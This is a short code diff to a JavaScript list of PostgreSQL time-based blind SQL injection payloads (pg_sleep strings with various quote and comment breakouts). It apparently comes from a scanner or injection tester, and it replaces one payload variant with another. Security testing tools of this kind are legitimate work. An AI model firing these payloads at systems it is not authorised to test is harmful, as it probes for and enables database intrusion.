@@ -16,7 +16,7 @@ const SLEEPS = [
   `' or pg_sleep(${SLEEP_SECONDS}) is null --`,
   `'; select pg_sleep(${SLEEP_SECONDS}); --`,
   `1; select pg_sleep(${SLEEP_SECONDS}) --`,
-  `1 or (select 1 from pg_sleep(${SLEEP_SECONDS})) = 1`,
+  `1 or exists (select pg_sleep(${SLEEP_SECONDS}))`,
   `(select pg_sleep(${SLEEP_SECONDS}))`,
   `',(select pg_sleep(${SLEEP_SECONDS})::text),'`,
   `") or pg_sleep(${SLEEP_SECONDS}) is null --`,
